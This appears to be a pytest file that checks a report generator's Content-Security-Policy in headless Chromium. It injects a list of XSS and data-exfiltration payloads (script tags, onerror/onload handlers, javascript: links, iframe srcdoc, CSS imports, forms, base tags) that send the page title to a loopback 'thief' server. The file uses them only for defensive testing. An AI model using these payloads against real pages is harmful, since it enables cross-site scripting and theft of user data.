"""What markup in a report can do in a real browser: nothing, whether it is opened as a file or sent by a server."""

import contextlib
import http.server
from pathlib import Path

import pytest
from tests.loopback import listening

from quire.page.frame import report
from quire.page.policy import CONTENTS_SCRIPT, page_policy

CHROMIUM = Path("/usr/bin/chromium")
SENDS = "fetch('{to}/fetch?'+document.title)"
ATTACKS = {
    "script": "<script>" + SENDS + "</script>",
    "module": "<script type='module'>" + SENDS + "</script>",
    "source": "<script src='{to}/source.js'></script>",
    "handler": '<img src="data:," onerror="' + SENDS + '">',
    "svg": '<svg onload="' + SENDS + '"></svg>',
    "focus": '<input autofocus onfocus="' + SENDS + '">',
    "picture": "<img src='{to}/picture.png'>",
    "style": "<style>@import '{to}/import.css'; h1 {{ background: url({to}/background.png) }}</style>",
    "sheet": "<link rel='stylesheet' href='{to}/sheet.css'>",
    "prefetch": "<link rel='prefetch' href='{to}/prefetch'>",
    "frame": "<iframe src='{to}/frame'></iframe>",
    "srcdoc": '<iframe srcdoc="<script>' + SENDS + '</script>"></iframe>',
    "object": "<object data='{to}/object'></object><embed src='{to}/embed'>",
    "form": "<form id='f' method='post' action='{to}/form'><button id='send'>x</button></form>",
    "base": "<base href='{to}/'><img src='base.png'>",
    "link": '<a id="link" href="javascript:' + SENDS + '">x</a>',
    "media": "<video src='{to}/video'></video><audio src='{to}/audio' autoplay></audio>",
    "font": "<style>@font-face {{ font-family: f; src: url({to}/font) }} h1 {{ font-family: f }}</style>",
}


@contextlib.contextmanager
def server(pages, headers=()):
    """Serve `pages`, path -> text, on the loopback; yields the address and the list of paths that were asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200 if self.path in pages else 404)
            for name, value in (("Content-Type", "text/html; charset=utf-8"), *headers):
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(pages.get(self.path, "").encode())

        do_POST = do_GET

        def log_message(self, *_):
            pass

    with listening(Handler) as address:
        yield f"http://{address}", asked


def without_policy(page):
    """Return a report as it was made before reports held a policy."""
    start = page.index("<meta http-equiv")
    return page[:start] + page[page.index(">", start) + 1 :]


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Chromium: apt-get install chromium")
def test_nothing_that_a_report_holds_runs_or_asks_for_anything(tmp_path):
    api = pytest.importorskip("playwright.sync_api", reason="needs playwright: make setup")
    header = ("Content-Security-Policy", page_policy())
    with server({}) as (thief, stolen), api.sync_playwright() as play:
        pages = {name: report(f"<h1>{name}</h1>{markup.format(to=thief)}") for name, markup in ATTACKS.items()}
        old = {f"/{name}": without_policy(page) for name, page in pages.items()}
        browser = play.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        with server(old, [header]) as (address, asked):
            for name, page in pages.items():
                (tmp_path / f"{name}.html").write_text(page, "utf-8")
                for url in ((tmp_path / f"{name}.html").as_uri(), f"{address}/{name}"):
                    tab = browser.new_page()
                    tab.goto(url)
                    tab.evaluate("for (const one of document.querySelectorAll('#send, #link')) one.click()")
                    tab.wait_for_timeout(100)
                    assert tab.inner_text("h1") == name
                    tab.close()
        browser.close()
    assert {path for path in asked if path != "/favicon.ico"} == set(old)
    assert stolen == []


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Chromium: apt-get install chromium")
def test_without_the_policy_the_same_markup_does_ask(tmp_path):
    api = pytest.importorskip("playwright.sync_api", reason="needs playwright: make setup")
    with server({}) as (thief, stolen), api.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        for name in ("script", "picture", "frame"):
            page = without_policy(report(f"<h1>{name}</h1>{ATTACKS[name].format(to=thief)}"))
            (tmp_path / f"{name}.html").write_text(page, "utf-8")
            tab = browser.new_page()
            tab.goto((tmp_path / f"{name}.html").as_uri())
            tab.wait_for_timeout(200)
        browser.close()
    assert {path.partition("?")[0] for path in stolen} >= {"/fetch", "/picture.png", "/frame"}


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Chromium: apt-get install chromium")
def test_our_own_script_still_folds_the_contents_on_a_phone(tmp_path):
    api = pytest.importorskip("playwright.sync_api", reason="needs playwright: make setup")
    path = tmp_path / "report.html"
    path.write_text(report('<h1 id="a">A</h1><h2 id="b">B</h2><p>text</p>'), "utf-8")
    with api.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
        for width, is_open in ((1400, True), (390, False)):
            tab = browser.new_page(viewport={"width": width, "height": 800})
            problems = []
            tab.on("console", lambda message, problems=problems: problems.append(message.text))
            tab.goto(path.as_uri())
            assert tab.evaluate("document.querySelector('.contents details').open") is is_open
            assert problems == []
        browser.close()


def test_the_hash_is_that_of_the_script_in_the_page():
    page = report("<h1>A</h1>")
    assert f"<script>{CONTENTS_SCRIPT}</script>" in page
    assert page.count("<script") == 1
    assert page.index("http-equiv") < page.index("<style>")
